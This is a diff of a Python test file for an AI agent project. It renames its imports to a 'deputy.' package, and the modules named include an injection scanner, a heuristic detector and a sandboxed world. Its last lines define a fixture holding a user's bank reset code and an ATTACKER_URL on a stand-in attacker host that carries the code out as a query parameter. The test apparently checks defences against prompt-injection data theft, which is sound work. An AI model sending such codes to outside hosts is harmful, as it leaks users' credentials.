@@ -23,33 +23,33 @@ from typing import Any, Callable
 import pytest
 from redis import Redis
 
-from agent.goals import Goal, GoalStatus, GoalStore
-from agent.guard_view import guard_view
-from agent.memory_tools import MemoryTools
-from agent.model import ModelReply, ModelRequestRejected
-from agent.origins import ORIGIN, Origin, origin_of, user_message
-from agent.reading import injection_scanner
-from agent.runner import RunnerLimits
-from agent.testing import FunctionModel, message_text, tool_call
-from bot.goal_controls import apply_edit, press_goal_control
-from bot.handlers import Handlers
-from bot.services import BotServices
-from core.effects import EffectClass
-from core.handoff import CodeField, HandOffRecorder, HandOffStore
-from core.outbox import Outbox
-from memory import MemoryStore
-from sandbox.world import World, WorldEmail
-from sandbox.world_operations import world_catalog
-from sentinel.stores.audit import AuditLog
-from sentinel.detectors import HeuristicDetector
-from sentinel.stores.rule_store import RuleStore
-from sentinel.rules import RuleConditions, RuleScope, UserRule
-from executor.egress_context import egress_context_for
-from executor.handoffs import HandOffService
-from core.clock import ManualClock
-from workers.inline import InlineDeputy
-from core.payloads import HandOffCodeJob
-from executor.review_context import ReviewContextBuilder, add_contact, stored_rules
+from deputy.agent.goals import Goal, GoalStatus, GoalStore
+from deputy.agent.guard_view import guard_view
+from deputy.agent.memory_tools import MemoryTools
+from deputy.agent.model import ModelReply, ModelRequestRejected
+from deputy.agent.origins import ORIGIN, Origin, origin_of, user_message
+from deputy.agent.reading import injection_scanner
+from deputy.agent.runner import RunnerLimits
+from deputy.agent.testing import FunctionModel, message_text, tool_call
+from deputy.bot.goal_controls import apply_edit, press_goal_control
+from deputy.bot.handlers import Handlers
+from deputy.bot.services import BotServices
+from deputy.core.effects import EffectClass
+from deputy.core.handoff import CodeField, HandOffRecorder, HandOffStore
+from deputy.core.outbox import Outbox
+from deputy.memory import MemoryStore
+from deputy.sandbox.world import World, WorldEmail
+from deputy.sandbox.world_operations import world_catalog
+from deputy.sentinel.stores.audit import AuditLog
+from deputy.sentinel.detectors import HeuristicDetector
+from deputy.sentinel.stores.rule_store import RuleStore
+from deputy.sentinel.rules import RuleConditions, RuleScope, UserRule
+from deputy.executor.egress_context import egress_context_for
+from deputy.executor.handoffs import HandOffService
+from deputy.core.clock import ManualClock
+from deputy.queue.inline import InlineDeputy
+from deputy.core.payloads import HandOffCodeJob
+from deputy.executor.review_context import ReviewContextBuilder, add_contact, stored_rules
 
 PRIVATE = "449102"  # the user's bank reset code, in their own inbox
 ATTACKER_URL = f"https://attacker.example/?d={PRIVATE}"
